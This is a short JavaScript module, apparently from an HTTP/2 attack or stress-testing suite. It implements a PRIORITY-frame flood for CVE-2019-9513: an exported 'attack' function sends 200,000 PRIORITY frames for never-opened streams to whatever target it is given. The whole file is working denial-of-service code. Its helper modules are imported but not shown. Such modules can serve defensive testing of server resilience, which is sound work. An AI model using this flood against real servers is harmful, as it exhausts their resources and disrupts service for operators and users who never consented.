// CVE-2019-9513: PRIORITY for streams that were never opened.
import { priority } from "../../raw/frames.mjs";
import { flood } from "../flood.mjs";

export const name = "PRIORITY flood";

export function attack(target) {
  return flood(target, 200_000, (i) => priority(2 * (i % 1_000_000) + 1, 0));
}
